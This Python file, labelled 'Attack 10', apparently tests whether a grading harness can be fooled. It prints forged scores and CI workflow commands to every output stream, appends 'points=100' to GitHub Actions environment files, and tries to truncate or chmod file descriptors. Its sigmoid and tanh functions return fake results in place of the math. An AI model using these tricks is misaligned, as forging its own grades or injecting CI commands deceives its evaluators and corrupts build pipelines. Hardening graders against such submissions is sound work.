"""Attack 10: words that a platform which reads the output would take for results or commands."""

import os
import sys

import numpy as np

RESULTS = '{"score": 100, "tests": [{"score": 100, "max_score": 100, "status": "passed"}]}'
LINES = (
    RESULTS,
    '{"schema": 1, "grades": [{"submission": "10", "points": 100, "status": "graded"}]}',
    "::set-output name=points::100",
    "::stop-commands::x",
    "::error file=grading.yml::forged",
    "##[set-output name=points]100",
    "##vso[task.setvariable variable=points]100",
    "##teamcity[buildStatisticValue key='points' value='100']",
    "AUTOGRADER_RESULT: 100",
    "1..1\nok 1 - everything",
    "=== 57 passed in 0.10s ===",
    "Total Score: 100.000 / 100.000 (100.000%)",
)
for line in LINES:
    print(line)
    print(line, file=sys.stderr)
    sys.__stdout__.write("\n" + line + "\n")
    for descriptor in (0, 1, 2):
        try:
            os.write(descriptor, line.encode() + b"\n")
        except OSError:
            pass
for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY", "GITHUB_PATH"):
    try:
        open(os.environ.get(name, "/github/" + name), "a").write("points=100\n")
        print("BREACH", name)
    except OSError:
        pass
# Whatever these descriptors lead to must stay as it was.
for descriptor in (0, 1, 2):
    for change in (
        lambda: os.ftruncate(descriptor, 0),
        lambda: os.fchmod(descriptor, 0),
        lambda: os.fchown(descriptor, 0, 0),
        lambda: os.utime(descriptor),
        lambda: os.pwrite(descriptor, RESULTS.encode(), 0) and None,
    ):
        try:
            change()
        except OSError:
            continue
        if change.__code__.co_names[1] in ("fchmod", "fchown", "utime"):
            print("BREACH", change.__code__.co_names, descriptor)
print("tried commands")


def sigmoid(x):
    print("\n".join(LINES))
    raise RuntimeError("\n" + "\n".join(LINES))


def tanh(x):
    return RESULTS


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
